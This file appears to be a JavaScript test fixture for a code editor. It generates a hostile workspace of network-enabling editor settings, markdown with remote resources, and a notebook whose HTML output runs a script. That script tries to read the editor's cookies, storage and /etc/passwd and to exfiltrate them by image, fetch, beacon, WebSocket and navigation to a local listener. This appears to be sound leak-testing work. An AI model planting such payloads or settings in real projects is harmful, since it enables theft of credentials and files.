/**
 * A stranger's folder that wants to get something out: settings that turn the network on, pictures
 * and schemas from elsewhere, a notebook whose scripts look for what they can read. Everything
 * leads to a listener of this machine, which says what got through, or to names that are nowhere.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";

import { png } from "./png.mjs";

/** Names for what a listener can't stand in for; nobody has them. */
const NOWHERE = "leak.localcoder-test.invalid";

/** Colours by which who can only look at the screen sees that a page is shown. */
export const SEEN = { preview: [254, 1, 127], notebook: [1, 254, 127] };

/** A picture of one point, as an address. */
function pointOf(colour) {
  return `data:image/png;base64,${png(1, 1, () => colour).toString("base64")}`;
}

/** Writes it into `folder`; `port` is the listener's. */
export function makeHostile(folder, port) {
  const elsewhere = `http://127.0.0.1:${port}`;
  mkdirSync(join(folder, ".vscode"), { recursive: true });
  const write = (name, text) => {
    writeFileSync(join(folder, name), typeof text === "string" ? text : JSON.stringify(text, null, 2));
  };
  write(".vscode/settings.json", {
    "workbench.editorAssociations": { "*.md": "vscode.markdown.preview.editor" },
    "npm.fetchOnlinePackageInfo": true,
    "json.schemaDownload.enable": true,
    "json.schemaDownload.trustedDomains": { [`${elsewhere}/`]: true, "http://": true },
    "json.schemas": [{ fileMatch: ["*.json"], url: `${elsewhere}/folder-schema.json` }],
    "markdown.styles": [`${elsewhere}/style.css`],
    "css.customData": [`${elsewhere}/data.json`],
    "html.customData": [`${elsewhere}/data.json`],
    "git.autofetch": true,
    "git.autofetchPeriod": 1,
    "http.proxy": elsewhere,
    "extensions.autoCheckUpdates": true,
    "typescript.disableAutomaticTypeAcquisition": false,
    "js/ts.tsserver.automaticTypeAcquisition.enabled": true,
    "telemetry.telemetryLevel": "all",
    "localcoder.airGapped": false,
  });
  write("package.json", {
    $schema: `${elsewhere}/package-schema.json`,
    name: "hostile",
    dependencies: { "left-pad": "1.0.0" },
  });
  write("data.json", { $schema: `${elsewhere}/schema.json`, value: 1 });
  write("page.html", `<link rel="stylesheet" href="${elsewhere}/a.css">\n`);
  write(
    "PICTURES.md",
    [
      "# Pictures",
      `<img src="${pointOf(SEEN.preview)}" width="200" height="100">`,
      `![a plain one](${elsewhere}/markdown.png)`,
      `![nowhere](https://${NOWHERE}/markdown.png)`,
      `<img src="${elsewhere}/html.png">`,
      `<link rel="stylesheet" href="${elsewhere}/markdown.css">`,
      `<link rel="dns-prefetch" href="//${NOWHERE}"><link rel="preconnect" href="${elsewhere}">`,
      `<video src="${elsewhere}/video.mp4" autoplay></video>`,
      `<iframe src="${elsewhere}/frame.html"></iframe>`,
      "",
    ].join("\n\n"),
  );
  write("leak.ipynb", notebook(elsewhere));
}

/** A notebook with an output that runs scripts where it is shown. */
function notebook(elsewhere) {
  const output = `
    <img src="${elsewhere}/notebook.png"><img src="https://${NOWHERE}/notebook.png">
    <link rel="stylesheet" href="${elsewhere}/notebook.css">
    <iframe src="${elsewhere}/notebook.html"></iframe>
    <p id="tried">not yet</p>
    <script>(${attack})(${JSON.stringify(elsewhere)}, ${JSON.stringify(SEEN.notebook)});</script>`;
  return {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: { language_info: { name: "python" } },
    cells: [
      {
        cell_type: "code",
        id: "leak",
        execution_count: 1,
        metadata: {},
        source: ["1"],
        outputs: [
          {
            output_type: "display_data",
            metadata: {},
            data: { "text/html": [output], "text/plain": ["shown"] },
          },
        ],
      },
    ],
  };
}

/** Runs in the notebook's page: tries everything, and writes down what came of it. */
async function attack(elsewhere, colour) {
  const tried = {};
  const attempt = async (name, body) => {
    try {
      tried[name] = String((await body()) ?? "nothing");
    } catch (error) {
      tried[name] = `refused: ${error.name}`;
    }
  };
  await attempt("the editor's cookie", () => window.top.document.cookie);
  await attempt("the editor's address", () => window.top.location.href);
  await attempt("the editor's storage", () => JSON.stringify(window.top.localStorage));
  // Of its own origin it may have these; nothing of the editor's is in them.
  await attempt("own cookie", () => document.cookie);
  const editor = window.location.ancestorOrigins?.[window.location.ancestorOrigins.length - 1];
  const file = "/vscode-remote-resource?path=/etc/passwd";
  for (const base of [editor, location.origin]) {
    const options = { credentials: "include" };
    await attempt(`file of ${base}`, async () => (await fetch(base + file, options)).text());
  }
  const leak = encodeURIComponent(JSON.stringify(tried));
  await attempt("picture", () => {
    return new Promise((resolve, reject) => {
      const picture = new Image();
      picture.onload = resolve;
      picture.onerror = () => reject(new Error("blocked"));
      picture.src = `${elsewhere}/picture?${leak}`;
    });
  });
  await attempt("fetch", () => fetch(`${elsewhere}/fetch?${leak}`, { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon(`${elsewhere}/beacon?${leak}`));
  await attempt("socket", () => {
    return new Promise((resolve, reject) => {
      const socket = new WebSocket(`${elsewhere.replace("http", "ws")}/socket?${leak}`);
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error("blocked"));
    });
  });
  await attempt("script", () => import(`${elsewhere}/script.js?${leak}`));
  await attempt("window", () => window.open(`${elsewhere}/window?${leak}`));
  await attempt("top", () => {
    window.top.location.href = `${elsewhere}/top?${leak}`;
  });
  const shown = document.getElementById("tried");
  shown.textContent = JSON.stringify(tried);
  // For who can only look at the screen.
  shown.style = `background: rgb(${colour}); height: 300px; overflow: hidden`;
}

/** What the notebook's page does last, as it is gone then: it goes elsewhere with what it knows. */
export function goElsewhere(port) {
  const form = document.createElement("form");
  form.action = `http://127.0.0.1:${port}/form`;
  document.body.append(form);
  form.submit();
  window.location.href = `http://127.0.0.1:${port}/itself`;
}
